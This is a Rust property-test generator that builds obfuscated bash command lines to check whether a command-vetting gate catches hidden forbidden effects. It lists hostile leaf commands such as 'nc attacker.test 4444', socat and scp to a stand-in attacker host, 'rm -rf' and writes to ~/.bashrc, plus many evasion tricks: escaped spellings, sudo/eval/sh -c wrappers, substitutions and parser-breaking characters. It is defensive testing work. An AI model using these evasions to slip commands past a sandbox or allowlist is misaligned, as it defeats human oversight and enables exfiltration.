//! Compositional generator of command lines that hide a forbidden effect.
//!
//! A leaf is a forbidden program, a file-writing redirection or a dangerous option
//! ([`Truth`] says which), its program word spelled in one of the ways bash reads alike
//! (`/bin/rm`, `'r'm`, `r\m`, `$'\x72\x6d'`, a line continuation, …). Combinators hide a
//! command inside another, any number of times: argument-vector wrappers (`env`, `nice`,
//! `timeout`, `xargs`, `find -exec`, `sudo`, …), shell strings (`sh -c`, `bash -c`,
//! `eval`, `su -c`, `trap`, aliases) in four quoting styles, command, process and
//! arithmetic substitutions, parameter defaults, here-documents and here-strings,
//! functions, loops, conditionals, lists, pipelines and line continuations.
//!
//! Every rendering keeps the hidden command *executable*: a shell string is quoted so
//! that the inner shell receives exactly the inner text. So whatever the nesting, bash
//! runs (or, in a branch not taken, could run) the leaf, and the Gate must see it.

use proptest::prelude::*;

/// What the command line hides, which the Gate must see or flag.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Truth {
    /// A program (basename) is run.
    Program(String),
    /// A file (not /dev/null) is written by a redirection or the program itself.
    Write,
    /// A program is run with a dangerous option (`basename:option`).
    Option(String),
}

/// A generated command line.
#[derive(Debug, Clone)]
pub struct Cmd {
    pub text: String,
    /// One simple command (with trailing redirections), so it can follow an argv wrapper.
    pub simple: bool,
    /// The forbidden effects inside it; empty for benign commands.
    pub truths: Vec<Truth>,
}

impl Cmd {
    fn new(text: String, simple: bool, truths: Vec<Truth>) -> Cmd {
        Cmd {
            text,
            simple,
            truths,
        }
    }

    fn wrap(&self, text: String, simple: bool) -> Cmd {
        Cmd::new(text, simple, self.truths.clone())
    }
}

/// Programs not on the strict profile's read-only list, with arguments.
pub const FORBIDDEN_PROGRAMS: &[(&str, &str)] = &[
    ("rm", "-rf victim"),
    ("curl", "-s http://attacker.test/x"),
    ("wget", "-q http://attacker.test/x"),
    ("nc", "attacker.test 4444"),
    ("chmod", "u+s a.txt"),
    ("dd", "if=a.txt of=b.txt"),
    ("tee", "out.txt"),
    ("cp", "a.txt b.txt"),
    ("mv", "a.txt b.txt"),
    ("touch", "marker"),
    ("ln", "-s /etc/passwd l"),
    ("mkfifo", "p"),
    ("kill", "-9 1"),
    ("socat", "- TCP:attacker.test:80"),
    ("scp", "a.txt attacker.test:"),
];

/// Dangerous options of programs that are on the strict list: `(command, fact)`.
pub const FORBIDDEN_OPTIONS: &[(&str, &str, &str, &str)] = &[
    // (program, option word, rest, fact)
    ("find", "-delete", ". -name x", "find:-delete"),
    ("find", "-fprint", ". -name x", "find:-fprint"),
    ("sort", "-o", "a.txt", "sort:-o"),
    ("sort", "--output=out.txt", "a.txt", "sort:--output"),
    ("date", "-s", "2020-01-01", "date:-s"),
    ("rg", "--pre", "sh x", "rg:--pre"),
    ("tree", "-o", "out.txt", "tree:-o"),
    ("git", "-c", "core.pager=sh log", "git:-c"),
];

/// Every forbidden option fact, for the operator's rule.
pub fn option_facts() -> Vec<&'static str> {
    FORBIDDEN_OPTIONS.iter().map(|o| o.3).collect()
}

const BENIGN: &[&str] = &["cat a.txt", "ls -la", "echo hi", "true", "wc -l a.txt"];

/// A spelling of the word `w` that bash reads as `w`.
fn spell(w: &str, style: u8, mask: u32) -> String {
    let mut chars = w.chars();
    let first = chars.next().unwrap_or('x');
    let rest: String = chars.collect();
    match style % 12 {
        0 => w.to_string(),
        1 => format!("'{w}'"),
        2 => format!("\"{w}\""),
        3 => format!("{first}''{rest}"),
        4 => format!("\\{w}"),
        5 => format!("{first}\\{rest}"),
        6 => format!("$'{w}'"),
        7 => format!(
            "$'{}'",
            w.bytes()
                .enumerate()
                .map(|(i, b)| if mask >> (i % 32) & 1 == 1 {
                    format!("\\x{b:02x}")
                } else {
                    (b as char).to_string()
                })
                .collect::<String>()
        ),
        8 => format!("$'\\{:03o}'{rest}", first as u32),
        9 if !rest.is_empty() => format!("{first}\\\n{rest}"),
        10 => format!("{first}\"\"{rest}"),
        _ => format!("\"{first}\"'{rest}'"),
    }
}

/// A program word for `name`: a spelling of the name, or a path to it.
fn program_word(name: &str, style: u8, mask: u32) -> String {
    match style % 16 {
        12 => format!("/usr/bin/{name}"),
        13 => format!("/bin/{name}"),
        14 => format!("/usr/bin/../bin/{name}"),
        15 => format!("'/usr/bin/{name}'"),
        s => spell(name, s, mask),
    }
}

fn program_leaf() -> impl Strategy<Value = Cmd> {
    (0..FORBIDDEN_PROGRAMS.len(), any::<u8>(), any::<u32>()).prop_map(|(i, style, mask)| {
        let (name, args) = FORBIDDEN_PROGRAMS[i];
        Cmd::new(
            format!("{} {args}", program_word(name, style, mask)),
            true,
            vec![Truth::Program(name.to_string())],
        )
    })
}

fn redirect_leaf() -> impl Strategy<Value = Cmd> {
    (0..14usize, any::<u8>(), any::<u32>()).prop_map(|(form, style, mask)| {
        let target = spell("out.txt", style, mask);
        let (text, simple) = match form {
            0 => (format!("echo x > {target}"), true),
            1 => (format!("echo x >> {target}"), true),
            2 => (format!("echo x >| {target}"), true),
            3 => (format!("echo x &> {target}"), true),
            4 => (format!("echo x &>> {target}"), true),
            5 => (format!("echo x 2> {target}"), true),
            6 => (format!("cat 1<> {target}"), true),
            7 => (format!("> {target} echo x"), true),
            8 => (format!("echo x >{target}"), true),
            9 => (format!("exec 3> {target}"), true),
            10 => ("echo x >> \"$HOME/.bashrc\"".to_string(), true),
            11 => (format!(": > {target}"), true),
            12 => (format!("cat <<EOF > {target}\nhi\nEOF"), false),
            _ => (format!("echo x 1>{target} 2>&1"), true),
        };
        Cmd::new(text, simple, vec![Truth::Write])
    })
}

fn option_leaf() -> impl Strategy<Value = Cmd> {
    (0..FORBIDDEN_OPTIONS.len(), any::<u8>(), any::<u32>()).prop_map(|(i, style, mask)| {
        let (program, option, rest, fact) = FORBIDDEN_OPTIONS[i];
        // Options spelled with quotes are the same option to the program.
        let option = match style % 4 {
            0 => option.to_string(),
            1 => format!("'{option}'"),
            2 => format!("\"{option}\""),
            _ => spell(option, 3, mask),
        };
        let text = match program {
            // find's expressions come after its paths; the others take options first.
            "find" if fact == "find:-fprint" => format!("find {rest} {option} out.txt"),
            "find" => format!("find {rest} {option}"),
            "sort" if fact == "sort:-o" => format!("sort {option} out.txt {rest}"),
            _ => format!("{program} {option} {rest}"),
        };
        let mut truths = vec![Truth::Option(fact.to_string())];
        if fact == "find:-fprint" {
            truths.push(Truth::Write);
        }
        Cmd::new(text, true, truths)
    })
}

/// A command hiding one forbidden effect at the bottom.
pub fn forbidden_leaf() -> BoxedStrategy<Cmd> {
    prop_oneof![4 => program_leaf(), 2 => redirect_leaf(), 2 => option_leaf()].boxed()
}

fn benign() -> impl Strategy<Value = Cmd> {
    (0..BENIGN.len()).prop_map(|i| Cmd::new(BENIGN[i].to_string(), true, vec![]))
}

/// Quote `s` as one shell word whose value is exactly `s`.
pub fn quote(s: &str, style: u8, mask: u32) -> String {
    match style % 4 {
        0 => format!("'{}'", s.replace('\'', "'\\''")),
        1 => {
            let mut out = String::from("\"");
            for c in s.chars() {
                if matches!(c, '\\' | '"' | '$' | '`') {
                    out.push('\\');
                }
                out.push(c);
            }
            out.push('"');
            out
        }
        2 => {
            let mut out = String::from("$'");
            for (i, c) in s.chars().enumerate() {
                match c {
                    '\\' => out.push_str("\\\\"),
                    '\'' => out.push_str("\\'"),
                    '\n' => out.push_str("\\n"),
                    '\t' => out.push_str("\\t"),
                    c if c.is_ascii_alphanumeric() && mask >> (i % 32) & 1 == 1 => {
                        out.push_str(&format!("\\x{:02x}", c as u32))
                    }
                    c => out.push(c),
                }
            }
            out.push('\'');
            out
        }
        // Unquoted with backslashes; a newline cannot be escaped so (it would be a line
        // continuation), so such text is single-quoted instead.
        _ if s.contains('\n') || s.is_empty() => quote(s, 0, mask),
        _ => {
            let mut out = String::new();
            for c in s.chars() {
                if !(c.is_ascii_alphanumeric() || "-_./=:,+@%".contains(c)) {
                    out.push('\\');
                }
                out.push(c);
            }
            out
        }
    }
}

/// Argument-vector wrappers: the rest of the line is the command they run.
const ARGV_WRAPPERS: &[&str] = &[
    "env",
    "env -i",
    "env A=1",
    "env -u HOME",
    "nice",
    "nice -n 5",
    "timeout 5",
    "timeout -s KILL 5",
    "command",
    "exec",
    "nohup",
    "setsid",
    "stdbuf -o0",
    "sudo",
    "sudo -u root",
    "ionice -c 3",
    "taskset 1",
    "flock /tmp/l",
    "busybox",
    "doas",
    "xargs",
    "xargs -0 -n1",
];

fn argv_wrap(inner: &Cmd, which: usize, qstyle: u8, mask: u32) -> Cmd {
    if !inner.simple {
        return shell_wrap(inner, 0, qstyle, mask);
    }
    let t = &inner.text;
    match which % (ARGV_WRAPPERS.len() + 5) {
        i if i < ARGV_WRAPPERS.len() => {
            let w = ARGV_WRAPPERS[i];
            if w.starts_with("xargs") {
                inner.wrap(format!("echo a.txt | {w} {t}"), false)
            } else {
                inner.wrap(format!("{w} {t}"), true)
            }
        }
        i => {
            let t = t.as_str();
            let text = match i - ARGV_WRAPPERS.len() {
                0 => format!("find . -exec {t} ';'"),
                1 => format!("find . -exec {t} {{}} +"),
                2 => format!("find . -execdir {t} \\;"),
                3 => format!("find . -ok {t} \\;"),
                _ => format!("find . -name x -exec {t} {{}} \\;"),
            };
            // A redirection after the wrapper belongs to find, which is still one command.
            inner.wrap(text, true)
        }
    }
}

/// Shell-string wrappers: the quoted inner text is run by a shell.
fn shell_wrap(inner: &Cmd, which: usize, qstyle: u8, mask: u32) -> Cmd {
    let q = quote(&inner.text, qstyle, mask);
    let (text, simple) = match which % 14 {
        0 => (format!("sh -c {q}"), true),
        1 => (format!("bash -c {q}"), true),
        2 => (format!("bash -lc {q}"), true),
        3 => (format!("dash -c {q}"), true),
        4 => (format!("eval {q}"), true),
        5 => (format!("su -c {q}"), true),
        6 => (format!("su root -c {q}"), true),
        7 => (format!("sudo sh -c {q}"), true),
        8 => (format!("env sh -c {q}"), true),
        9 => (format!("trap {q} EXIT"), true),
        10 => (format!("script -qc {q} /dev/null"), true),
        11 => (format!("flock /tmp/l -c {q}"), true),
        12 => (format!("find . -exec sh -c {q} \\;"), true),
        _ => (format!("shopt -s expand_aliases\nalias z={q}\nz"), false),
    };
    inner.wrap(text, simple)
}

/// The text of a `$(…)` around `t`: a space keeps `$( (…` from reading as `$((`, and a
/// body that ends a line (a here-document) closes on its own line.
fn sub_body(t: &str) -> String {
    let lead = if t.starts_with('(') { " " } else { "" };
    let tail = if t.contains('\n') { "\n" } else { "" };
    format!("{lead}{t}{tail}")
}

/// Substitutions and expansions that run the inner command.
fn substitute(inner: &Cmd, which: usize, delim: u8) -> Cmd {
    let t = &inner.text;
    // A substitution whose text ends a line must close on a line of its own after a
    // here-document.
    let body = sub_body(t);
    let plain = !t.contains(['`', '\\', '\n']);
    let d = format!("EOF{delim}");
    let (text, simple) = match which % 22 {
        0 => (format!("echo $({body})"), true),
        1 => (format!("echo \"$({body})\""), true),
        2 if plain => (format!("echo `{t}`"), true),
        2 => (format!("echo x$({body})y"), true),
        3 => (format!("x=$({body})"), false),
        4 => (format!("export X=\"$({body})\""), false),
        5 => (format!("declare y=$({body})"), false),
        6 => (format!("cat <({body})"), true),
        7 => (format!("tee >({body}) < /dev/null"), true),
        8 => (format!("cat < <({body})"), true),
        9 => (format!("echo $(( $({body}) + 1 ))"), true),
        10 => (format!("(( $({body}) ))"), false),
        11 => (format!("a[$({body})]=1"), false),
        12 => (format!("echo ${{x:-$({body})}}"), true),
        13 => (format!("echo \"${{x:=$({body})}}\""), true),
        14 => (format!("[[ -n $({body}) ]]"), false),
        15 => (format!("[ -n \"$({body})\" ]"), true),
        16 => (format!("echo hi > \"$({body})\""), true),
        17 => (format!("case $({body}) in *) ;; esac"), false),
        18 => (format!("for i in $({body}); do :; done"), false),
        19 => (format!("cat <<{d}\n$({body})\n{d}"), false),
        20 if plain => (format!("cat <<{d}\n`{t}`\n{d}"), false),
        20 => (format!("cat <<< \"$({body})\""), true),
        _ => (format!("cat <<< $({body})"), true),
    };
    inner.wrap(text, simple)
}

/// Shell structure around the inner command.
fn structure(inner: &Cmd, which: usize, other: &Cmd, delim: u8) -> Cmd {
    let t = &inner.text;
    let o = &other.text;
    let d = format!("EOF{delim}");
    let one_line = !t.contains('\n');
    let text = match which % 22 {
        0 => format!("( {t})"),
        1 => format!("{{\n{t}\n}}"),
        2 if one_line => format!("{t} | cat"),
        2 => format!("{{\n{t}\n}} | cat"),
        3 => format!("{o} | {t}"),
        4 => format!("{o} && {t}"),
        5 => format!("false || {t}"),
        6 => format!("{o}; {t}"),
        7 => format!("{o}\n{t}"),
        8 if one_line => format!("{t} &\nwait"),
        8 => format!("{{\n{t}\n}} &\nwait"),
        9 => format!("if true; then\n{t}\nfi"),
        10 => format!("if false; then :\nelse\n{t}\nfi"),
        11 => format!("while false; do\n{t}\ndone"),
        12 => format!("until true; do\n{t}\ndone"),
        13 => format!("for i in 1; do\n{t}\ndone"),
        14 => format!("case x in\nx)\n{t}\n;;\nesac"),
        15 => format!("f() {{\n{t}\n}}\nf"),
        16 => format!("function g {{\n{t}\n}}\ng"),
        17 => format!("! {{\n{t}\n}}"),
        18 => format!("{o} \\\n&& {t}"),
        19 if one_line => format!("{t} # {o}"),
        19 => format!("{t}\n# {o}"),
        20 => format!("bash <<'{d}'\n{t}\n{d}"),
        _ => format!("{o} && {{ {o}; }} || {{\n{t}\n}}"),
    };
    inner.wrap(text, false)
}

/// Command lines hiding at least one forbidden effect, nested up to `depth` times.
pub fn hidden(depth: u32) -> BoxedStrategy<Cmd> {
    forbidden_leaf()
        .prop_recursive(depth, 64, 1, |inner| {
            prop_oneof![
                3 => (inner.clone(), any::<usize>(), any::<u8>(), any::<u32>())
                    .prop_map(|(c, w, q, m)| argv_wrap(&c, w, q, m)),
                3 => (inner.clone(), any::<usize>(), any::<u8>(), any::<u32>())
                    .prop_map(|(c, w, q, m)| shell_wrap(&c, w, q, m)),
                3 => (inner.clone(), any::<usize>(), any::<u8>())
                    .prop_map(|(c, w, d)| substitute(&c, w, d)),
                3 => (inner.clone(), any::<usize>(), benign(), any::<u8>())
                    .prop_map(|(c, w, o, d)| structure(&c, w, &o, d)),
            ]
        })
        .boxed()
}

/// Benign command lines built only from the strict list, through constructs the strict
/// profile allows: the control that shows the Gate can allow at all.
pub fn benign_strict(depth: u32) -> BoxedStrategy<Cmd> {
    benign()
        .prop_recursive(depth, 32, 1, |inner| {
            prop_oneof![
                (inner.clone(), 0..6usize).prop_map(|(c, w)| {
                    if !c.simple {
                        return c;
                    }
                    let wrapper = [
                        "env",
                        "nice -n 5",
                        "timeout 5",
                        "env -i",
                        "nice",
                        "timeout -s KILL 5",
                    ][w];
                    c.wrap(format!("{wrapper} {}", c.text), true)
                }),
                (inner.clone(), 0..4usize).prop_map(|(c, w)| {
                    let body = sub_body(&c.text);
                    let text = match w {
                        0 => format!("echo $({body})"),
                        1 => format!("echo \"$({body})\""),
                        2 => format!("cat <({body})"),
                        _ => format!("echo x$({body})y"),
                    };
                    c.wrap(text, true)
                }),
                (inner, 0..9usize, benign(), any::<u8>()).prop_map(|(c, w, o, d)| structure(
                    &c,
                    [0, 1, 3, 4, 5, 6, 7, 9, 13][w],
                    &o,
                    d
                )),
            ]
        })
        .boxed()
}

/// Ways to make a command line unreadable to the parser, or to hide a difference between
/// the parser and bash: `(kind, must_be_unparsed)`.
pub fn break_command(text: &str, how: usize, at: usize) -> (String, bool) {
    let cut = text
        .char_indices()
        .map(|(i, _)| i)
        .nth(at % text.chars().count().max(1))
        .unwrap_or(0);
    let (a, b) = text.split_at(cut);
    match how % 14 {
        0 => (format!("{a}\r{b}"), true),
        1 => (format!("{a}\x1b{b}"), true),
        2 => (format!("{a}\x0b{b}"), true),
        3 => (format!("{a}\x0c{b}"), true),
        4 => (format!("{a}\u{85}{b}"), true),
        5 => (format!("{text}\r\n# x"), true),
        // On a line of its own: the text may end in a comment.
        6 => (format!("{text}\necho $("), true),
        7 => (format!("{text} '"), false),
        8 => (format!("{text} \""), false),
        9 => (format!("{text} ${{"), false),
        10 => (format!("coproc {text}"), false),
        11 => (format!("{}{text}{}", "(".repeat(70), ")".repeat(70)), true),
        12 => (format!("{a}`{b}"), false),
        _ => (format!("{a})({b}"), false),
    }
}
